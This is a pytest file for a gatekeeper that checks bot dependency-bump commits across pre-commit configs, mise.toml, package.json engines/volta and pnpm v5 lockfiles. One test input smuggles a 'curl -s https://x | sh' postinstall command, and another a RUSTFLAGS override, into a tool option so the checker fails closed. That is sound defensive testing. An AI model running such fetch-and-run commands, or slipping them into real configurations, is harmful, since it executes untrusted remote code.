"""Classes of misses the thirty-first blind set of bot update commits found (bench/deps_bumps_thirtyfirst.tsv).

- One hook repository listed twice at two revs (pypa/gh-action-pypi-publish runs flake8 twice: `6.1.0`, and `4.0.1
  # enforce-version: 4.0.1` for a plugin that needs flake8 4), and pre-commit.ci moving the second onto the first's
  rev (4 commits, --tree): the delta grouped both entries as one package's versions and read `4.0.1` as removed. Each
  `- repo:` item is a use of its repository, as each `uses:` line of a workflow is (delta._USE_SITES): the entry that
  moved is the change, 4.0.1 → 6.1.0.
- A mise `[tools]` version written with an operator (rust-lang/crates.io's `"cargo:cargo-deny" = "=0.20.2"`, 2, both
  modes): the value was no version to the reader, so a bump read as nothing at all, in both modes and with no problem
  (fail open). A value that opens with a comparison operator before a release number is read as written; from a
  patch, a one-line inline table (`{ version = "=2.3.11", features = "postgres", default-features = false }`) is read
  at its `version` when its other keys are build options (`features`, `default-features`, `os`), those options being
  the line's section, so a changed option fails closed as a move between sections.
- package.json's `engines` and `volta` (keystonejs/keystone's Renovate "Update Node.js to v14", `"node":
  ">=v12.13.1"` → `">=v14.17.4"`, 1, both modes): with --tree the file was a `partial` problem (a residue edit) and
  from the patch the line was read as the npm package `node`. Now both name the tool (`node`, `npm`, `pnpm`, `yarn`,
  any engine key; volta's tool keys only), and a hunk does so where it shows the line's object opening.
- A pnpm lockfile v5 key (`/ip/1.1.9:`, mswjs/msw's Dependabot "bump ip from 1.1.8 to 1.1.9", 1 from the patch): refused
  from a hunk as a form not read. It is read now, as the whole file reads it; and the whole file no longer reads a v5
  key whose peer suffix holds an `@` (`/styled-jsx/5.0.7_react@18.2.0`) as the package `styled-jsx/5.0.7_react`.

Real-shaped files written for these tests, look-alikes and malformed input.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.deps import npm
from gatekeeper.deps.hunks import pnpm_lock_hunks, sides
from gatekeeper.deps.mise import mise_line, parse_mise
from gatekeeper.deps.model import ManifestError
from gatekeeper.deps.residue import changed
from tests.deltas import moves, partial
from tests.deltas import patch as _patch
from tests.deltas import tree as _tree
from tests.gitrepo import edited_commits


def _bumped(root: Path, files: dict[str, str], edits: dict[str, dict[str, str]]) -> tuple[object, object]:
    repo, base, head = edited_commits(root, files, edits)
    return _tree(repo, base, head), _patch(repo, base, head)


# --- 1. one hook repository in two entries --------------------------------------------------------------------------

PRE_COMMIT = """\
repos:
- repo: https://github.com/PyCQA/isort.git
  rev: 5.12.0
  hooks:
  - id: isort
    args:
    - --honor-noqa

- repo: https://github.com/PyCQA/flake8.git
  rev: 6.1.0
  hooks:
  - id: flake8
    alias: flake8-no-wps
    name: flake8 WPS-excluded
    additional_dependencies:
    - flake8-2020 ~= 1.7.0
    - flake8-pytest-style ~= 1.6.0

- repo: https://github.com/PyCQA/flake8.git
  # NOTE: This is kept at v4 for until WPS starts supporting flake v5.
  rev: 4.0.1  # enforce-version: 4.0.1
  hooks:
  - id: flake8
    alias: flake8-only-wps
    name: flake8 WPS-only
    args:
    - --select
    - WPS
    additional_dependencies:
    - wemake-python-styleguide ~= 0.17.0

- repo: local
  hooks:
  - id: enforced-flake8-version
    name: Verify that enforced flake8 version stays unchanged
    language: system
    entry: python scripts/check_flake8_pin.py
"""


@each_case(("edits", "want"), [
    # gh-action-pypi-publish a0620a417771: the second entry moves onto the first's rev
    ({"rev: 4.0.1  # enforce-version": "rev: 6.1.0  # enforce-version", "rev: 5.12.0": "rev: 5.13.2"},
     {("pre-commit", "PyCQA/flake8", "4.0.1", "6.1.0"), ("pre-commit", "PyCQA/isort", "5.12.0", "5.13.2")}),
    # both entries move, to one rev and to two
    ({"rev: 4.0.1  # enforce-version": "rev: 7.0.0  # enforce-version", "rev: 6.1.0": "rev: 7.0.0"},
     {("pre-commit", "PyCQA/flake8", "4.0.1", "7.0.0"), ("pre-commit", "PyCQA/flake8", "6.1.0", "7.0.0")}),
    ({"rev: 4.0.1  # enforce-version": "rev: 4.0.2  # enforce-version", "rev: 6.1.0": "rev: 7.0.0"},
     {("pre-commit", "PyCQA/flake8", "4.0.1", "4.0.2"), ("pre-commit", "PyCQA/flake8", "6.1.0", "7.0.0")}),
    # the first entry moves onto nothing the other holds
    ({"rev: 6.1.0": "rev: 6.0.0"}, {("pre-commit", "PyCQA/flake8", "6.1.0", "6.0.0")}),
])
def test_one_hook_repository_in_two_entries_is_two_uses(tmp_path: Path, edits: dict[str, str],
                                                         want: set[tuple[str, str, str, str]]) -> None:
    tree, patch = _bumped(tmp_path, {".pre-commit-config.yaml": PRE_COMMIT}, {".pre-commit-config.yaml": edits})
    assert moves(tree) == want, tree
    assert moves(patch) <= want and not tree.problems, patch  # a hunk shows each entry it moves, or is partial
    assert moves(patch) == want or partial(patch, ".pre-commit-config.yaml"), patch


def test_a_second_entry_added_at_another_rev_is_no_removal(tmp_path: Path) -> None:
    second = ("- repo: https://github.com/PyCQA/isort.git\n  rev: 5.13.2\n  hooks:\n  - id: isort\n"
              "    name: isort docs\n")
    tree, _ = _bumped(tmp_path, {".pre-commit-config.yaml": PRE_COMMIT},
                      {".pre-commit-config.yaml": {"- repo: local\n": second + "\n- repo: local\n"}})
    assert {(c.name, c.from_version, c.to_version) for c in tree.changes} == {("PyCQA/isort", "5.12.0", "5.13.2")}


# --- 2. a mise tool version written with an operator ------------------------------------------------------------------

MISE = """\
# `mise.toml` file for the mise version manager (https://mise.jdx.dev)
#
# This file specifies the versions of various tools to be used in this project.
[tools]
cargo-insta = "1.48.0"
"cargo:cargo-deny" = "=0.19.9"
"cargo:cargo-machete" = "=0.9.2"
"cargo:diesel_cli" = { version = "=2.3.10", features = "postgres", default-features = false }
"cargo:diesel-guard" = "=0.12.0"
node = "24.18.0"
pnpm = "11.10.0"
"""


@each_case(("old", "new", "want"), [
    ('"=0.19.9"', '"=0.20.2"', ("tool", "cargo:cargo-deny", "=0.19.9", "=0.20.2")),  # crates.io 02bc3b83328b
    ('"=2.3.10"', '"=2.3.11"', ("tool", "cargo:diesel_cli", "=2.3.10", "=2.3.11")),  # crates.io f22d164a98d5
    ('"=0.12.0"', '"^0.13"', ("tool", "cargo:diesel-guard", "=0.12.0", "^0.13")),
    ('"=0.9.2"', '">= 0.10.0"', ("tool", "cargo:cargo-machete", "=0.9.2", ">= 0.10.0")),
])
def test_a_mise_version_with_an_operator_is_read(tmp_path: Path, old: str, new: str,
                                                  want: tuple[str, str, str, str]) -> None:
    tree, patch = _bumped(tmp_path, {"mise.toml": MISE}, {"mise.toml": {old: new}})
    assert moves(tree) == moves(patch) == {want}, (tree, patch)
    # a line more than three below `[tools]`: its hunk does not show the table (crates.io f22d164a98d5's did not)
    assert not tree.problems and partial(patch, "mise.toml") == (old in ('"=2.3.10"', '"=0.12.0"')), patch


@pytest.mark.parametrize("edit", [
    {'features = "postgres", default': 'features = "postgres,sqlite", default'},  # an option beside the bump
    {'features = "postgres", default-features = false }': 'postinstall = "curl -s https://x | sh" }'},
    {'default-features = false }': 'default-features = false, install_env = { RUSTFLAGS = "-C x" } }'},
])
def test_a_changed_tool_option_is_no_bump(tmp_path: Path, edit: dict[str, str]) -> None:
    edit = {'"=2.3.10"': '"=2.3.11"', **edit}
    tree, patch = _bumped(tmp_path, {"mise.toml": MISE}, {"mise.toml": edit})
    assert partial(tree, "mise.toml") and partial(patch, "mise.toml"), (tree, patch)


@each_case(("value", "read"), [
    ('"=1.2.3"', ["=1.2.3"]), ('"==1.2"', ["==1.2"]), ('"~1.2"', ["~1.2"]), ('"^ 1"', ["^ 1"]),
    ('"<2"', ["<2"]), ('["=1.0", "2.0"]', ["=1.0", "2.0"]),
    # look-alikes (no release number after the operator, a word) are read as written too (attack 23: dropped, a pin
    # moved to one was read as the tool's removal, which passes)
    ('"=latest"', ["=latest"]), ('"="', ["="]), ('"^"', ["^"]), ('"==="', ["==="]), ('"lts"', ["lts"]),
    ('"= v"', ["= v"]),
])
def test_mise_values_read_as_versions(value: str, read: list[str]) -> None:
    deps = parse_mise("mise.toml", f"[tools]\ntaplo = {value}\n".encode())
    assert [d.version for d in deps] == read


def test_an_unread_value_moved_to_an_operator_version_is_named(tmp_path: Path) -> None:
    tree, patch = _bumped(tmp_path, {"mise.toml": MISE.replace('"=0.12.0"', '"latest"')},
                          {"mise.toml": {'"latest"': '"=0.12.0"'}})
    assert moves(tree) == {("tool", "cargo:diesel-guard", "latest", "=0.12.0")} and not tree.problems, tree
    # from the patch `"latest"`, under a table its hunk does not show, is no tool's version it can name: refused
    assert moves(patch) == set() and partial(patch, "mise.toml"), patch


@each_case("line", [
    '"cargo:x" = { version = "=1.0", path = "../x" }',  # a source
    '"cargo:x" = { version = 1 }',  # no string
    '"cargo:x" = { features = "a" }',  # no version
    '"cargo:x|y" = { version = "=1.0" }',  # the section mark in the key
    '"cargo:x" = { version = "=1.0", features = "a"',  # unclosed
])
def test_an_inline_table_the_hunk_cannot_read_safely_is_refused(tmp_path: Path, line: str) -> None:
    body = '[tools]\nnode = "24.18.0"\n"cargo:x" = { version = "=0.9", features = "a" }\npnpm = "11.10.0"\n'
    _, patch = _bumped(tmp_path, {"mise.toml": body},
                       {"mise.toml": {'"cargo:x" = { version = "=0.9", features = "a" }': line}})
    assert moves(patch) == set() and partial(patch, "mise.toml"), patch


# --- 3. package.json's engines and volta --------------------------------------------------------------------------

PLAYGROUND = """\
{
  "name": "@keystone-next/example-playground",
  "version": "1.0.0",
  "private": true,
  "license": "MIT",
  "scripts": {
    "dev": "keystone-next dev",
    "start": "keystone-next start",
    "build": "keystone-next build"
  },
  "dependencies": {
    "@keystone-next/keystone": "^24.0.0",
    "dotenv": "^10.0.0"
  },
  "devDependencies": {
    "typescript": "^4.3.5"
  },
  "engines": {
    "node": ">=v12.13.1",
    "npm": ">=7"
  },
  "volta": {
    "node": "14.17.4",
    "yarn": "1.22.11",
    "extends": "../../package.json"
  },
  "repository": "https://github.com/keystonejs/keystone/tree/master/examples-staging/playground"
}
"""


@each_case(("old", "new", "want"), [
    ('"node": ">=v12.13.1"', '"node": ">=v14.17.4"', ("tool", "node", ">=v12.13.1", ">=v14.17.4")),  # 55f686ceeffc
    ('"npm": ">=7"', '"npm": ">=8"', ("tool", "npm", ">=7", ">=8")),
    ('"node": "14.17.4"', '"node": "16.14.2"', ("tool", "node", "14.17.4", "16.14.2")),
    ('"yarn": "1.22.11"', '"yarn": "1.22.19"', ("tool", "yarn", "1.22.11", "1.22.19")),
])
def test_engines_and_volta_name_the_tool(tmp_path: Path, old: str, new: str, want: tuple[str, str, str, str]) -> None:
    tree, patch = _bumped(tmp_path, {"package.json": PLAYGROUND}, {"package.json": {old: new}})
    assert moves(tree) == moves(patch) == {want}, (tree, patch)
    assert not tree.problems and not patch.problems


def test_volta_extends_is_no_tool_and_stays_residue(tmp_path: Path) -> None:
    assert ("extends", "../../package.json") not in {(d.name, d.version) for d in
                                                      npm.parse_package_json("package.json", PLAYGROUND.encode())}
    tree, patch = _bumped(tmp_path, {"package.json": PLAYGROUND},
                          {"package.json": {'"../../package.json"': '"../../other/package.json"'}})
    assert moves(tree) == moves(patch) == set() and partial(tree, "package.json") and partial(patch, "package.json")


def test_an_engine_line_whose_object_the_hunk_does_not_show_is_still_read_fail_closed(tmp_path: Path) -> None:
    body = PLAYGROUND.replace('"engines": {\n', '"engines": {\n' + "".join(f'    "e{i}": "^{i}.0.0",\n'
                                                                          for i in range(8)))
    _, patch = _bumped(tmp_path, {"package.json": body}, {"package.json": {'">=v12.13.1"': '">=v14.17.4"'}})
    assert moves(patch) == {("npm", "node", ">=v12.13.1", ">=v14.17.4")}, patch  # named as a package: reviewed


def test_the_engines_residue_is_read_not_compared() -> None:
    head = PLAYGROUND.replace(">=v12.13.1", ">=v14.17.4").replace('"1.22.11"', '"1.22.19"')
    assert not changed("package.json", PLAYGROUND.encode(), head.encode())
    private = PLAYGROUND.replace('"private": true', '"private": false')
    assert changed("package.json", PLAYGROUND.encode(), private.encode())


# --- 4. pnpm lockfile v5 keys ----------------------------------------------------------------------------------------

PNPM_V5 = """\
lockfileVersion: 5.4

specifiers:
  '@open-draft/test-server': ^0.4.2
  styled-jsx: ^5.0.7
  typescript: ^4.9.5

dependencies:
  styled-jsx: 5.0.7_react@18.2.0

devDependencies:
  '@open-draft/test-server': 0.4.2
  typescript: 4.9.5

packages:

  /@open-draft/test-server/0.4.2:
    resolution: {integrity: sha512-J9wbdQkPx5WKcDNtgfnXsx5ew4UJd6BZyGr89YlHeaUkOShkO2iO5QIyCCsG==}
    dependencies:
      express: 4.18.2
      ip: 1.1.8
    transitivePeerDependencies:
      - supports-color
    dev: true

  /ip/1.1.8:
    resolution: {integrity: sha512-PuExPYUiu6qMBQb4l06ecm6T6ujzhmh+MeJcW9wa89PoAz5pvd4zPgN5WJV1==}
    dev: true

  /styled-jsx/5.0.7_react@18.2.0:
    resolution: {integrity: sha512-b3sUzamS086YLRuvnaDigdAewz1/EFYlHpYBP5mZovKEdQQOIIYq8lApylub==}
    engines: {node: '>= 12.0.0'}
    dev: false

  /@types/react/18.0.28:
    resolution: {integrity: sha512-RD0ivG1kEztNBdoAK7lekI9M+azSnitIn85h4iOiaLjaTrMjzslhaqCGaI4I==}
    dev: true

  /typescript/4.9.5:
    resolution: {integrity: sha512-1FXk9E2Hm+QzZQ7z+McJiHL4NW1F995jxyAwiHFwEJHH3EiEhY7ho/hyQtd5==}
    engines: {node: '>=4.2.0'}
    hasBin: true
    dev: true
"""


@pytest.mark.parametrize(("edits", "want"), [
    # msw 7a2ac2c5afd6: the entry's key and the edge of its dependent
    ({"ip: 1.1.8": "ip: 1.1.9", "/ip/1.1.8:": "/ip/1.1.9:"}, {("npm", "ip", "1.1.8", "1.1.9")}),
    ({"/@types/react/18.0.28:": "/@types/react/18.0.31:"}, {("npm", "@types/react", "18.0.28", "18.0.31")}),
    ({"/styled-jsx/5.0.7_react@18.2.0:": "/styled-jsx/5.1.1_react@18.2.0:",
      "styled-jsx: 5.0.7_react": "styled-jsx: 5.1.1_react"}, {("npm", "styled-jsx", "5.0.7", "5.1.1")}),
])
def test_a_pnpm_v5_key_is_read_from_hunks(tmp_path: Path, edits: dict[str, str],
                                          want: set[tuple[str, str, str, str]]) -> None:
    edits = {k: v for k, v in edits.items()}
    tree, patch = _bumped(tmp_path, {"pnpm-lock.yaml": PNPM_V5}, {"pnpm-lock.yaml": edits})
    assert moves(tree) == moves(patch) == want, (tree, patch)
    assert not patch.problems


@each_case(("key", "read"), [
    ("/ip/1.1.9", ("ip", "1.1.9")), ("/@types/react/18.0.28", ("@types/react", "18.0.28")),
    ("/styled-jsx/5.0.7_react@18.2.0", ("styled-jsx", "5.0.7")),
    ("/@emotion/react/11.10.6_@types+react@18.0.28+react@18.2.0", ("@emotion/react", "11.10.6")),
    ("/@testing-library/react/13.4.0_biqbaboplfbrettd7655fr4n2y", ("@testing-library/react", "13.4.0")),
    # v6 and v9 keys, unchanged
    ("/ms@2.1.3", ("ms", "2.1.3")), ("@babel/core@7.23.0", ("@babel/core", "7.23.0")),
    ("/@emotion/react@11.10.6(@types/react@18.0.28)(react@18.2.0)", ("@emotion/react", "11.10.6")),
])
def test_pnpm_key(key: str, read: tuple[str, str]) -> None:
    assert npm.pnpm_key(key) == read


@each_case("line", [
    "  /ip/latest:", "  /ip:", "  //ip/1.0.0:", "  /ip/1.0.0/x:", '  "/ip/1.0.0":', "  /ip/ 1.0.0:", "  /ip@x/1.0.0:",
    "  /@scope/1.0.0:", "  /ip/1.0.0 :x",
])
def test_a_v5_look_alike_key_still_fails_closed(line: str) -> None:
    old, new = sides(["@@ -1,2 +1,2 @@", "-  /ip/1.1.8:", f"+{line}", "     dev: true"])
    with pytest.raises(ManifestError):
        pnpm_lock_hunks("pnpm-lock.yaml", new)
    assert [(d.name, d.version) for d in pnpm_lock_hunks("pnpm-lock.yaml", old)] == [("ip", "1.1.8")]


@each_case(("line", "read"), [
    ('"cargo:x" = { version = "=1.1", features = "a" }', True),
    ('"npm:@scope/x.y" = { version = "1.1" }', True),
    ("x = { version = '1.1', os = ['linux'] }", True),
    ('node.version = "1.1"', False),  # a dotted key: a table of another shape, refused as before
    ('"cargo".x = { version = "1.1" }', False),
    ('x = { version = "1.1" } y = 1', False),
])
def test_an_inline_table_line(line: str, read: bool) -> None:
    side = [("[tools]", False), (line, True)]
    try:
        got = mise_line(side, 1)
    except ManifestError:
        got = []
    assert bool(got) == read, got
